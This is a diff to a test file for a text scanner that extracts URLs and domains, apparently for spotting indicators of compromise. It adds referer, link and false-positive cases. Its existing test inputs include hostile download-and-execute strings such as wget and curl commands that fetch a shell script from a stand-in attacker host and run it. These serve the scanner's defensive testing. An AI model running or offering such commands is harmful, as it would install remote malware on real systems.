@@ -16,6 +16,12 @@ describe('scanText finds', () => {
       'cd /tmp;wget http://185.10.20.30/bot.sh;chmod 777 bot.sh',
       ['url http://185.10.20.30/bot.sh'],
     ],
+    ['referer=http://badsite.net/r', ['url http://badsite.net/r']],
+    ['GET /?ref=http://badsite.net/r', ['url http://badsite.net/r']],
+    [
+      'via t.me, x.com and [link](http://badsite.net/l)',
+      ['domain t.me', 'domain x.com', 'url http://badsite.net/l'],
+    ],
     ['curl -O http://badsite.net/x&&sh x', ['url http://badsite.net/x']],
     ['curl http://badsite.net/y;./y', ['url http://badsite.net/y']],
     [
@@ -91,6 +97,10 @@ describe('scanText finds nothing', () => {
     'Chrome 131.0.0.0 on Windows',
     `uuid: ${md5} finding/${md5} thumbprint ${md5} deviceId=${md5}`,
     '00000000000000000000000000000000',
+    'type="utm" ref="http://www.badsite.net/ve?vn=X", Reference: http://badsite.net/r',
+    'Runbook: [how to block](https://wiki.badsite.net/runbook)',
+    'SELECT u.name, p.email FROM users u; window.open(x); ASP.NET and VB.NET apps',
+    'OID 1.3.6.1.4.1.311 under 1.3.6.1, section 4.2.1.1, CIS Benchmark 1.2.3.4',
     'opened mails.zip/invoice.exe, parts.cab/setup and Chat.app/Contents/Info',
     'In-Reply-To: <x@badsite.net>',
     'Message-ID: <20240624211145.62086.mail@badsite.net>',
